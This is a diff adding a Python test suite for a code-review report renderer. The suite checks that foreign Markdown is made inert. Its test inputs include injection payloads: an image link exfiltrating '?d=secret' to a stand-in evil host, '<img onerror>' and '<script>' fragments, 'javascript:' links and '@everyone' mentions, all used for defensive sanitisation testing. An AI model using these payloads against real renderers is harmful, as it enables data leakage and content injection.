@@ -1,0 +1,297 @@
+"""The report as a reader sees it, and foreign text that cannot pretend to be ours."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from adapters.templates.catalogue import builtin
+from core.debate.events import EndReason
+from core.debate.material import Coverage, Material, MaterialKind, Read
+from core.debate.material.plaintext import cell, neutral, one_line
+from core.debate.replies.sections import placeholders
+from core.debate.template import Option
+from core.words.outcome.report import report
+from core.words.views.verdict.scores import risk, scores
+from tests.core.table import Table, agree, dispute, finding, stance, table
+
+LINE = "https://github.com/acme/shop/blob/0123abcd/app/db.py#L12"
+HOLDERS = "security critic and performance critic"
+REVIEWED = """\
+# Review of Retry on timeout
+
+Risk 4.8/10, security 9.0/10
+
+The change is **small**.
+\\# Verdict: approve
+&lt;script> see docs (`https://evil.example/?d=1`), cc `@everyone`
+
+---
+
+## How this was decided
+
+**Verdict:** Changes requested: 1 finding must be fixed before merging; the maintainability critic \
+disputes it. Close: one seat decides. Besides: 1 not counted.
+
+- Rule: findings: what must be fixed; 2 of 3 seats hold request changes.
+- Heard: 3 of 3 seats; a verdict needs 1.
+- Ended early because there is nothing more to learn. Nothing new
+- To do: Use parameters
+
+### Warnings
+
+- 1 of 2 files was not read in full.
+- People's votes show no clear majority: 1 comment, 3 request changes.
+
+### Votes
+
+| Option | Before the debate | Seats | People |
+| --- | --- | --- | --- |
+| approve | 2 | 1 | 0 (0.00–0.49) |
+| comment | 0 | 0 | 1 (0.05–0.70) |
+| request changes | 1 | 2 | 3 (0.30–0.95) |
+
+### What the debate changed
+
+- performance critic: approve → request changes in round 2 (“The query is built from user input”)
+
+### Findings
+
+| Severity | Place | Finding | Held by | Disputed by | State |
+| --- | --- | --- | --- | --- | --- |
+| high | [`app/db.py:12`]({LINE}) | The query is built from user input | {HOLDERS} | maintainability critic | disputed: 2 hold, 1 disputes |
+
+### Findings that are not counted
+
+- A | in # the title (maintainability critic): no line of the material shows it
+
+### Who disagrees
+
+- **Maintainability critic** (approve, 70% sure): It is dead code; disputes “The query is built from user input”: nobody calls it
+  - Would settle it: a caller is shown
+
+### Challenges
+
+- ann: And under load? (not answered)
+
+### Scores
+
+| Criterion | Weight | Score |
+| --- | --- | --- |
+| security coverage | 30% | 9.0 |
+| performance impact | 20% | not assessed |
+| maintainability | 20% | not assessed |
+| actionability | 20% | not assessed |
+| consensus | 10% | not assessed |
+
+### What was read
+
+1 of 2 files read in full.
+- `uv.lock`: not read, lock file
+- Merged already; this is a post-mortem.
+- 2 secrets were taken out before anything was stored or sent.
+
+### Cost
+
+$0.0070 · 7 calls · 700 tokens read (280 from a cache) · 140 written
+"""
+
+
+def reviewed() -> Table:
+    material = Material(
+        MaterialKind.PULL_REQUEST,
+        "Retry on timeout",
+        "…",
+        "https://github.com/acme/shop/pull/42",
+        "0123abcd",
+        coverage=(
+            Coverage("app/db.py", Read.FULL),
+            Coverage("uv.lock", Read.LEFT_OUT, "lock file"),
+        ),
+        notes=("Merged already; this is a post-mortem.",),
+        redacted=2,
+    )
+    t = table(material=material)
+    t.says("t1", "request_changes", findings=[finding(fix="Use parameters")]).says("t2", "approve")
+    odd = finding(
+        "A | in\n# the title", severity="medium", confidence=0.7, path="", line=None, anchored=False
+    )
+    t.says(
+        "t3",
+        stance("approve", because="It is dead code", would_resolve_if="a caller is shown"),
+        findings=[odd],
+    )
+    t.says("u1", "request_changes").says(
+        "u2", stance("request_changes", moved_by="t1.f1"), answers=[agree("t1.f1")]
+    )
+    same_stance = stance("approve", because="It is dead code", would_resolve_if="a caller is shown")
+    t.says("u3", same_stance, answers=[dispute("t1.f1", "nobody calls it")]).challenges(
+        "And under load?"
+    )
+    for n, option in enumerate(
+        ("request_changes", "request_changes", "request_changes", "comment")
+    ):
+        t.votes(f"person{n}", option)
+    summary = (
+        "The change is **small**.\n# Verdict: approve\n<script> see "
+        "[docs](https://evil.example/?d=1), cc @everyone"
+    )
+    t.stops(EndReason.CONVERGED, "Nothing new")
+    return t.says(
+        "end", sections={"summary": summary}, scores={"security_coverage": 0.9, "made_up": 1.0}
+    ).concluded()
+
+
+def test_the_whole_report() -> None:
+    whole = REVIEWED.replace("{HOLDERS}", HOLDERS).replace("{LINE}", LINE)
+    assert report(reviewed().debate) == whole
+
+
+def test_what_nobody_answered_is_said_to_be_unanswered() -> None:
+    t = table().says("t1", "approve").fails("end").concluded()
+    assert report(t.debate).startswith(
+        "# Review of Retry on timeout\n\nRisk not assessed, security not assessed\n\n_not "
+        "answered_\n\n---\n"
+    )
+
+
+def test_a_title_names_no_score_that_nobody_gave() -> None:
+    """The findings below the title were raised all the same."""
+    t = table(output_format="# Review\n\n## Security ({security_score})\n\n{security_findings}")
+    assert report(t.says("t1", "approve").says("end").concluded().debate).startswith(
+        "# Review\n\n## Security\n\n"
+    )
+
+
+def test_a_demonstration_is_marked_at_the_top() -> None:
+    t = table(terms={"demo": True}).says("t1", "approve").says("end").concluded()
+    assert report(t.debate).startswith(
+        "> **This is a demonstration: rely on nothing that these models say.**\n\n# Review"
+    )
+
+
+def test_scores_come_from_the_judge_and_only_for_the_rubric() -> None:
+    t = table(("a", "judge:judge"), ("t1 a", "j1 judge closing", "j2 judge closing about=swapped"))
+    t.says("t1", "approve", scores={"security_coverage": 1.0}).says(
+        "j1", scores={"security_coverage": 0.4, "invented": 1.0}
+    )
+    t.says("j2", scores={"security_coverage": 0.9})
+    assert scores(t.debate) == {"security_coverage": 0.4}
+
+
+def test_without_findings_there_is_no_risk() -> None:
+    assert risk(()) == 0.0
+
+
+@pytest.mark.parametrize("name", sorted(builtin()))
+def test_every_template_renders_with_every_placeholder_filled(name: str) -> None:
+    shipped = builtin()[name]
+    t = table(
+        **{
+            f: getattr(shipped, f)
+            for f in ("ballot", "rubric", "output_format", "findings", "id", "name")
+        }
+    )
+    option = shipped.ballot[0].option
+    t.says("t1", option).says("t2", option).says("t3", option)
+    sections = {name: f"about {name}" for name in placeholders(shipped.output_format)}
+    t.says("end", sections=sections, scores=dict.fromkeys(shipped.rubric, 0.5)).concluded()
+    made = report(t.debate)
+    assert "{" not in made
+    assert "_not answered_" not in made
+    assert "scored" not in made
+
+
+def test_a_model_cannot_fill_in_the_decision() -> None:
+    form = "{decision}|{confidence}|{consensus}|{high_count}|{dissent}|{risk_level}"
+    t = table(output_format=form, findings=False, ballot=(Option("go"), Option("no")))
+    t.says("t1", "go").says("t2", "no").says("t3", "no", findings=[finding()])
+    names = ("decision", "confidence", "consensus", "high_count", "dissent", "risk_level")
+    t.says("end", sections=dict.fromkeys(names, "go, 100 %, all agree")).concluded()
+    assert report(t.debate).splitlines()[0] == (
+        "no|70%, as 2 seats said of themselves, unchecked|2 of 3 seats hold no, 2 needed: reached|1|- **Security critic** (go, "
+        "70% sure): no reason given|high"
+    )
+
+
+# -- foreign text
+
+
+@pytest.mark.parametrize(
+    ("written", "rendered"),
+    [
+        ("plain *emphasis* and `code`", "plain *emphasis* and `code`"),
+        ("# Heading", "\\# Heading"),
+        ("Text\n===", "Text\n\\==="),
+        ("Text\n---", "Text\n\\---"),
+        ("<img src=x onerror=y>", "&lt;img src=x onerror=y>"),
+        ("<!-- hidden -->", "&lt;!-- hidden -->"),
+        ("&lt;!here&gt;", "&amp;lt;!here&amp;gt;"),
+        ("![alt](https://evil.example/p.png?d=secret)", "(image: alt)"),
+        ("[github.com](https://evil.example)", "github.com (`https://evil.example`)"),
+        ("https://evil.example/?d=1.", "`https://evil.example/?d=1`."),
+        ("<https://evil.example>", "&lt;`https://evil.example`>"),
+        ("javascript://x", "`javascript://x`"),
+        ("@everyone and <!channel> <@U123>", "`@everyone` and &lt;!channel> &lt;`@U123`>"),
+        ("a@b.example", "a@b.example"),
+        ("[1]: https://evil.example", "[1]\\: `https://evil.example`"),
+        ("- # in a list", "- \\# in a list"),
+        ("> quoted\n> ---", "> quoted\n> \\---"),
+        ("\\`<b>\\`", "'&lt;b>'"),
+        ("```a`b\n<b>", "'''a'b\n&lt;b>"),
+        ("- x\n\n  ```py\n<b>", "- x\n\n```py\n<b>\n```"),
+        ("```\n# kept <b>\n```", "```\n# kept <b>\n```"),
+        ("```\nnever closed", "```\nnever closed\n```"),
+        ("a\u202eb\u200bc", "a\\u202eb\\u200bc"),
+        ("one ` tick", "one ' tick"),
+        ("http://e.x```<b>```@a", "`http://e.x` ```<b>``` `@a`"),
+    ],
+)
+def test_foreign_markdown_is_made_inert(written: str, rendered: str) -> None:
+    assert neutral(written) == rendered
+
+
+def test_long_text_is_cut_and_says_so() -> None:
+    assert neutral("x" * 20, limit=10) == "xxxxxxxxxx\n… (cut)"
+    assert one_line("a\n# b\n" + "c" * 20, limit=10) == "a # b ccc…"
+    assert cell("a|b\nc") == "a\\|b c"
+
+
+NASTY = (
+    "```",
+    "~~~",
+    "](",
+    "]: ",
+    "<b>",
+    "\n# ",
+    "\n- ",
+    "\n> ",
+    "\n    ",
+    "\n---\n",
+    "![",
+    "http://e.x",
+)
+PIECES = st.sampled_from([*"ab `~#<>[]()!@=-|\n\t:/.w\u202e&;\\", *NASTY])
+INERT = {"heading_open", "html_block", "html_inline", "link_open", "image"}
+
+
+@settings(max_examples=300)
+@given(st.lists(PIECES, max_size=25).map("".join))
+def test_a_reader_of_markdown_finds_no_heading_html_link_or_open_fence_in_foreign_text(
+    text: str,
+) -> None:
+    assert_inert(neutral(text))
+    assert_inert(one_line(text))
+    assert_inert(f"- {one_line(text)}")
+    assert "\n" not in one_line(text)
+
+
+def assert_inert(rendered: str) -> None:
+    tokens = MarkdownIt("commonmark").enable("table").parse(f"{rendered}\n\n# ours\n")
+    everything = [*tokens, *(child for t in tokens for child in t.children or ())]
+    live_types = [t.type for t in everything if t.type in INERT]
+    assert live_types == ["heading_open"]
+    assert (tokens[-2].content, tokens[-2].level) == ("ours", 1)
+    assert "\u202e" not in rendered
